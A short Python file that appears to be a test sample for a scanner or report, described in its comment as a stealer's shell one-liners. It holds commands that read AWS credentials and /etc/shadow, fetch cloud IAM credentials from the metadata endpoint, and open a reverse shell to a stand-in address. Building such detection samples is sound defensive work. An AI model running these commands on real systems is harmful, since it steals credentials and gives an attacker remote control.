# A stealer's shell one-liners, each a separate command: the report must
# judge every one, not only the first shell it sees.
import os
os.system("echo looking around")
os.system("id")
os.system("cat ~/.aws/credentials > /dev/null 2>&1")
os.system("cat /etc/shadow > /dev/null 2>&1")
os.system("curl -s -m 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/ || true")
os.system("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' 2>/dev/null")
